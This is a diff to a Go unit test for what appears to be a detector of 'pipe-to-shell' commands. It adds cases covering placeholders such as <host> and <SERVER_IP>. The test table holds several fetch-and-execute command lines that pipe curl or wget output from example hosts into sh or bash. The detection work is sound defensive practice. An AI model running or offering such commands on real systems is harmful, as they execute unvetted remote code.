@@ -25,6 +25,9 @@ func TestFacts(t *testing.T) {
 		{"curl -fsSL 203.0.113.7/k | sh", "pipe-to-shell"},
 		{"wget -qO- get.x.example:8000/i.sh | sh", "pipe-to-shell"},
 		{"curl -o out.sh bin/x.sh", ""},
+		// A placeholder is a word, not two redirections.
+		{"ssh root@<SERVER_IP> 'chmod 600 /home/u/.ssh/authorized_keys'", ""},
+		{"curl -fsSL https://<host>/i.sh | sh", "pipe-to-shell"},
 		{"U=https://x.example/i.sh; curl $U | sh", "pipe-to-shell"},
 		{"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "pipe-to-shell"},
 		{"bash <(curl -s https://x.example/i.sh)", "pipe-to-shell"},
